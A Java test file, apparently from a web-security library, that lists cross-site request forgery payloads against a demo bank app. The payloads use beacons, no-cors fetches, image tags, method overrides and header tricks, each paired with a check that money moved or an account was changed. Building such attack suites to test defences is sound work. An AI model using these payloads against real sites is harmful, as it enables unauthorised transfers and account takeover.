package dev.cordon.examples.bank.evil;

import static dev.cordon.examples.bank.evil.Draft.fromEvil;
import static dev.cordon.examples.bank.evil.Draft.fromSibling;
import static dev.cordon.examples.bank.evil.Witnesses.moneyMoved;

import java.util.List;

/** Writes by script and by element. Cookies ride along from the hacked blog, which is same-site. */
final class FetchAttacks {

  private FetchAttacks() {}

  static List<Attack> list() {
    return List.of(
        fromSibling("W01-beacon", "A beacon posts a transfer")
            .does(
                """
                navigator.sendBeacon(T + '/api/transfer', new URLSearchParams(PAY));
                await sleep(300);
                """)
            .worksIf(moneyMoved()),
        post(
            "W02-fetch-text-plain",
            "JSON in a text/plain fetch",
            "/api/transfer",
            "mode: 'no-cors', body: JSON_PAY"),
        post(
            "W03-absent-content-type",
            "JSON without any Content-Type",
            "/api/pay/no-form-types",
            "mode: 'no-cors', body: new Blob([JSON_PAY])"),
        post(
            "W03-no-body",
            "A POST without a body, everything in its query",
            "/api/transfer?to=mallory&amount=1000",
            "mode: 'no-cors'"),
        fromSibling("W03-beacon-blob", "A beacon with JSON and no Content-Type")
            .does(
                """
                navigator.sendBeacon(T + '/api/pay/no-form-types', new Blob([JSON_PAY]));
                await sleep(300);
                """)
            .worksIf(moneyMoved()),
        post(
            "W04-parameters",
            "text/plain with the word json in a parameter",
            "/api/pay/contains-json",
            "body: JSON_PAY,"
                + " headers: {'Content-Type': 'text/plain; charset=utf-8; x=application/json'}"),
        post(
            "W04-upper-case",
            "TEXT/PLAIN, which a list of lower-case types misses",
            "/api/pay/no-form-types",
            "body: JSON_PAY, headers: {'Content-Type': 'TEXT/PLAIN'}"),
        fromSibling("W05-fetch-multipart", "A FormData with a GraphQL mutation")
            .does(
                """
                const body = new FormData();
                const query = 'mutation { transfer(to: "mallory", amount: 1000) }';
                body.append('operations', JSON.stringify({query}));
                await fetch(T + '/graphql', {method: 'POST', credentials: 'include',
                  mode: 'no-cors', body});
                """)
            .worksIf(moneyMoved()),
        post(
            "W06-accept-header",
            "A header that only looks like a custom one",
            "/api/pay/accept-header",
            "body: new URLSearchParams(PAY), headers: {'Accept':"
                + " 'application/vnd.corner-bank+json'}"),
        post(
            "W07-cors-list",
            "A CORS allow-list hides the answer, and the money is gone",
            "/api/pay/cors-list",
            "body: new URLSearchParams(PAY)"),
        fromSibling("W08-image", "A picture whose address moves money")
            .does("await within(3000, element('img', {src: T + '/api/quick-transfer?' + PAY}));")
            .worksIf(moneyMoved()),
        send(
            "W09-head",
            "HEAD, routed to the GET that moves money",
            "HEAD",
            "/api/quick-transfer?to=mallory&amount=1000",
            "mode: 'no-cors'",
            moneyMoved()),
        send(
            "W10-override-header",
            "X-HTTP-Method-Override makes a POST a DELETE",
            "POST",
            "/api/users/bob",
            "headers: {'X-HTTP-Method-Override': 'DELETE'}",
            Witnesses.bobIsGone()),
        send(
            "W11-put",
            "PUT, which a careless preflight allows",
            "PUT",
            "/api/profile",
            "body: JSON.stringify({email: 'mallory@evil.example'}),"
                + " headers: {'Content-Type': 'application/json'}",
            Witnesses.profileChanged()),
        send(
            "W11-put-for-post",
            "PUT where the token is looked for on POST only",
            "PUT",
            "/api/pay/token-on-post",
            "body: JSON_PAY",
            moneyMoved()),
        send(
            "W11-patch",
            "PATCH, which a careless preflight allows",
            "PATCH",
            "/api/profile",
            "body: JSON.stringify({email: 'mallory@evil.example'})",
            Witnesses.profileChanged()),
        send(
            "W12-delete",
            "DELETE, which a careless preflight allows",
            "DELETE",
            "/api/users/bob",
            "headers: {'X-Requested-With': 'fetch'}",
            Witnesses.bobIsGone()),
        send(
            "W13-options",
            "OPTIONS, routed to the GET that moves money",
            "OPTIONS",
            "/api/quick-transfer?to=mallory&amount=1000",
            "mode: 'cors'",
            moneyMoved()),
        fromSibling("W29-logout-image", "A picture whose address logs the visitor out")
            .does("await within(3000, element('img', {src: T + '/logout'}));")
            .worksIf(Witnesses.loggedOut()),
        post(
            "W33-forwarded-host",
            "X-Forwarded-Host says that the attacker's site is the bank",
            "/api/pay/origin-is-forwarded-host",
            "body: new URLSearchParams(PAY), headers: {'X-Forwarded-Host': location.host}"),
        post(
            "W34-same-site",
            "same-site, taken for same-origin",
            "/api/pay/not-cross-site",
            "mode: 'no-cors', body: new URLSearchParams(PAY)"),
        fromEvil("W37-loopback-rpc", "A switch that anybody on this machine may throw")
            .victim(Victim.LOGGED_OUT)
            .does(
                """
                await fetch(T + '/internal/flags', {method: 'POST', mode: 'no-cors',
                  body: JSON.stringify({flag: 'debug'})});
                """)
            .worksIf((attack, bank, loot) -> bank.flags().contains("debug")));
  }

  private static Attack post(String id, String title, String path, String rest) {
    return send(id, title, "POST", path, rest, moneyMoved());
  }

  private static Attack send(
      String id, String title, String method, String path, String rest, Attack.Witness witness) {
    return fromSibling(id, title)
        .does(
            """
            await fetch(T + '%s', {method: '%s', credentials: 'include', %s}).catch(() => {});
            """
                .formatted(path, method, rest))
        .worksIf(witness);
  }
}
